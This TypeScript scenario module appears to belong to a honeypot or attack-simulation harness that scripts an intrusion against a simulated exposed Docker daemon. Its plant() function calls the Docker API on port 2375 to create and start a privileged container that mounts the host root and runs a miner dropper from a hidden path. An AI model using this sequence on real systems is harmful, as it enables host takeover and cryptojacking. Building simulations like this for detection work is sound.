// Played by a toy; the daemon notes each call, and the miner runs in the scope of a container.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { dockerOnTheNet } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(dockerOnTheNet)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.docker/dockerd-x', cron: false })
  stage.mark('occurrence')
  const body = { Image: 'alpine', Cmd: ['/bin/sh', '-c', line], HostConfig: { Binds: ['/:/mnt'], Privileged: true } }
  const made = await stage.http('203.0.113.31', ':2375/v1.24/containers/create', JSON.stringify(body), {
    'Content-Type': 'application/json',
  })
  const { Id } = JSON.parse(made) as { Id: string }
  await stage.http('203.0.113.31', `:2375/v1.24/containers/${Id}/start`, '')
}
